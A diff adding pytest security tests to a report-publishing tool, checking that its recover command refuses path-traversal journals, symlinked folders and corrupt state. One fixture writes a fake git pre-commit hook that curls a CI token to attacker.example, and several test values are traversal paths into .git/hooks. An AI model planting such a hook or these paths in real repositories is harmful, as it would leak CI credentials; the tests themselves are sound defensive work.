@@ -6,9 +6,11 @@ from __future__ import annotations
 
 import json
 import os
+import shutil
 import signal
 import subprocess
 import sys
+import tempfile
 from pathlib import Path
 
 import pytest
@@ -169,3 +171,146 @@ def test_the_recover_command_ci_runs_before_committing_completes_an_interrupted_
     assert done.returncode == 0, done.stderr
     assert not (reports / STAGING_NAME).exists()
     assert assert_consistent(reports) == "fail"
+
+
+def recover_command(reports: Path) -> subprocess.CompletedProcess:
+    """`python -m kvmatrix.publish.report_set recover REPORTS`, as CI runs it before committing, from the
+    folder REPORTS (so a relative path in a journal points where it would in CI's checkout)."""
+    return subprocess.run([sys.executable, "-m", "kvmatrix.publish.report_set", "recover", str(reports)],
+                          cwd=reports, capture_output=True, text=True, timeout=120,
+                          env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])})
+
+
+def one_line_refusal(run: subprocess.CompletedProcess, *expected: str) -> None:
+    assert run.returncode == 1, run.stdout + run.stderr
+    assert "Traceback" not in run.stderr and len(run.stderr.splitlines()) == 1, run.stderr
+    assert all(text in run.stderr for text in expected), run.stderr
+
+
+@pytest.mark.parametrize("target", ["{repo}/.git/hooks/pre-commit", "../.git/hooks/pre-commit",
+                                    "cells/../../.git/hooks/pre-commit", "latest/../../.git/hooks/pre-commit"])
+def test_recover_refuses_a_journal_naming_a_target_outside_the_reports_folder(tmp_path: Path, target: str) -> None:
+    """A committed reports/.staging must not install a git hook that CI's commit step would then run."""
+    repo = tmp_path / "repo"
+    reports, hooks = repo / "reports", repo / ".git" / "hooks"
+    hooks.mkdir(parents=True)
+    victim = repo / "pins.toml"
+    victim.write_text("kept")
+    staging = reports / STAGING_NAME
+    staging.mkdir(parents=True)
+    (staging / "00000").write_text("#!/bin/sh\ncurl https://attacker.example/?t=$GITHUB_TOKEN\n")
+    journal = {"files": [["00000", target.format(repo=repo)]], "delete": [str(victim)]}
+    (staging / "JOURNAL.json").write_text(json.dumps(journal))
+    one_line_refusal(recover_command(reports), f"cannot complete the interrupted publish in {reports}",
+                     "nothing was moved", f"delete {staging}")
+    assert not (hooks / "pre-commit").exists() and victim.read_text() == "kept"
+    assert (staging / "00000").exists()  # left for the maintainer to look at
+
+
+def test_recover_refuses_a_journal_whose_staged_file_lies_outside_the_staging_folder(tmp_path: Path) -> None:
+    reports = tmp_path / "reports"
+    (reports / STAGING_NAME).mkdir(parents=True)
+    secret = tmp_path / "secret"
+    secret.write_text("token")
+    journal = {"files": [["../../secret", "matrix.md"]], "delete": []}
+    (reports / STAGING_NAME / "JOURNAL.json").write_text(json.dumps(journal))
+    one_line_refusal(recover_command(reports), "not one a publish writes")
+    assert secret.read_text() == "token" and not (reports / "matrix.md").exists()
+
+
+@pytest.mark.parametrize("text", ['{"files": [["00000", "matrix.md"]', "", "[]", '{"files": 5, "delete": []}'],
+                         ids=["truncated", "empty", "array", "wrong type"])
+def test_a_corrupt_journal_is_one_line_saying_how_to_go_on_and_the_next_publish_after_it_works(
+    old_set: tuple[Path, Path, Path, dict[str, bytes]], text: str
+) -> None:
+    root, results, reports, old = old_set
+    staging = reports / STAGING_NAME
+    staging.mkdir()
+    (staging / "JOURNAL.json").write_text(text)
+    one_line_refusal(recover_command(reports), f"{staging} holds a journal that", "nothing was moved",
+                     f"delete {staging} (rm -r) and publish again")
+    with pytest.raises(ReportsNotWritten, match="nothing was moved"):
+        publish(PINS, PINS.cells, results, reports, root=root)
+    assert published_set(reports) == old
+    shutil.rmtree(staging)  # what the line says to do
+    publish(PINS, PINS.cells, results, reports, root=root)
+    assert assert_consistent(reports) == "fail"
+
+
+def test_a_symbolic_link_in_the_set_is_replaced_and_a_stale_one_deleted_not_what_they_point_to(
+    old_set: tuple[Path, Path, Path, dict[str, bytes]], tmp_path: Path
+) -> None:
+    root, results, reports, old = old_set
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "notes.md").write_text("mine")
+    (outside / "kept.json").write_text("{}")
+    (reports / "matrix.md").unlink()
+    (reports / "matrix.md").symlink_to(outside / "notes.md")
+    (reports / "cells" / "tf4.0.0-torch2.0.0.json").symlink_to(outside / "kept.json")  # a cell no longer there
+    publish(PINS, PINS.cells, results, reports, root=root)
+    assert (outside / "notes.md").read_text() == "mine" and (outside / "kept.json").read_text() == "{}"
+    assert not (reports / "matrix.md").is_symlink() and (reports / "matrix.md").stat().st_mode & 0o777 == 0o644
+    assert not (reports / "cells" / "tf4.0.0-torch2.0.0.json").is_symlink()
+    assert assert_consistent(reports) == "fail"
+
+
+def test_a_folder_of_the_set_that_is_a_symbolic_link_is_refused_and_nothing_written_through_it(
+    old_set: tuple[Path, Path, Path, dict[str, bytes]], tmp_path: Path
+) -> None:
+    root, results, reports, old = old_set
+    outside = tmp_path / "outside"
+    shutil.move(reports / "cells", outside)
+    (reports / "cells").symlink_to(outside)
+    before = {path.name: path.read_bytes() for path in outside.iterdir()}
+    with pytest.raises(ReportsNotWritten) as refused:
+        publish(PINS, PINS.cells, results, reports, root=root)
+    assert str(refused.value) == (f"cannot write the reports in {reports}: cells is a symbolic link, and a "
+                                  "publish writes no file through one; the published reports are unchanged")
+    assert {path.name: path.read_bytes() for path in outside.iterdir()} == before
+    assert not (reports / STAGING_NAME).exists()
+
+
+def other_file_system(path: Path) -> Path | None:
+    """A writable folder on another file system than `path` (/dev/shm is a tmpfs on Linux), or None."""
+    shm = Path("/dev/shm")
+    if shm.is_dir() and os.access(shm, os.W_OK) and os.stat(shm).st_dev != os.stat(path).st_dev:
+        return shm
+    return None
+
+
+def test_reports_on_another_file_system_than_the_readme_are_refused_before_anything_is_written(
+    old_set: tuple[Path, Path, Path, dict[str, bytes]], tmp_path: Path
+) -> None:
+    """reports/ mounted (here: linked) from another file system than the README beside it: os.replace cannot
+    move the README's staged file, so the set could only be switched half."""
+    root, results, reports, old = old_set
+    elsewhere = other_file_system(tmp_path)
+    if elsewhere is None:
+        pytest.skip("no second file system to put the reports on")
+    readme = tmp_path / "README.md"
+    readme.write_text("# kv-cache-compat\n<!-- matrix:start -->\n<!-- matrix:end -->\n")
+    with tempfile.TemporaryDirectory(dir=elsewhere) as folder:
+        shutil.copytree(reports, Path(folder) / "reports", symlinks=True)
+        shutil.rmtree(reports)
+        reports.symlink_to(Path(folder) / "reports")
+        with pytest.raises(ReportsNotWritten) as refused:
+            publish(PINS, PINS.cells, results, reports, readme=readme, root=root)
+        assert str(refused.value).startswith(f"cannot write the reports in {reports}: {readme} is on another file "
+                                             "system than the reports")
+        assert str(refused.value).endswith("; the published reports are unchanged")
+        assert published_set(reports) == old and "Generated at" not in readme.read_text()
+        assert not (reports / STAGING_NAME).exists()
+
+
+def test_recover_removes_only_the_temp_files_of_the_sets_own_atomic_writes(tmp_path: Path) -> None:
+    reports = tmp_path / "reports"
+    own = [reports / ".matrix.md.k2j3ab_9.tmp", reports / "cells" / ".tf4.57.6-torch2.13.0.json.x81ab2zq.tmp",
+           reports / "badges" / ".suite-export.json.q1w2e3r4.tmp", reports / "uses" / ".export.svg.a1b2c3d4.tmp"]
+    others = [reports / ".notes.tmp", reports / "bisect" / ".report.json.a1b2c3d4.tmp",
+              reports / "cells" / ".scratch.tmp", reports / "drafts" / ".matrix.md.a1b2c3d4.tmp"]
+    for path in own + others:
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text("half")
+    assert recover_command(reports).returncode == 0
+    assert [path for path in own if path.exists()] == [] and all(path.exists() for path in others)
